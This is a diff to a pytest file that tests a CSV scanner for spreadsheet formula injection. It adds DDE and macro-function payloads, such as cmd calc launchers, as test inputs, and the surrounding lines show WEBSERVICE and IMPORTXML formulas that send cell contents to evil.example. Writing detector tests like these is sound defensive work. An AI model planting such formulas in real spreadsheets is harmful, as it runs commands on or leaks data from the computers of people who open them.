@@ -42,6 +42,9 @@ def test_text_and_addresses():
         ("+msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!'' ", "high"),
         ('=DDE("cmd";"/C calc";"x")', "high"),
         ("-2+3+cmd|' /C calc'!D2", "high"),
+        ("=ddeauto|x", "high"),
+        ("=REGISTER.ID(1)", "medium"),
+        ("=Call (1)", "medium"),
         ('=WEBSERVICE("https://evil.example/?"&A1)', "medium"),
         ('=IMPORTXML("https://evil.example/"&A1,"//a")', "medium"),
     ],
@@ -61,6 +64,16 @@ def test_cells_that_are_commands(cell, severity):
 )  # fmt: skip
 def test_ordinary_cells_are_not(line):
     assert found(opened(text_file.open_csv, line.encode())) == {}
+
+
+@pytest.mark.parametrize("before", ["İstanbul,", "x,cmd,excel,call (us),import (no),", "cmd\n" * 900])
+def test_cells_behind_others(before):
+    assert found(opened(text_file.open_csv, f"{before}=cmd|' /C calc'!A0\n".encode())) == {"csv-formula": "high"}
+
+
+def test_the_first_cell_is_told():
+    opening = opened(text_file.open_csv, b"=powershell|a!b,x\n=cmd|' /C calc'!A0\n")
+    assert "powershell" in opening.findings[0].explanation
 
 
 def test_the_real_csv_with_dde():
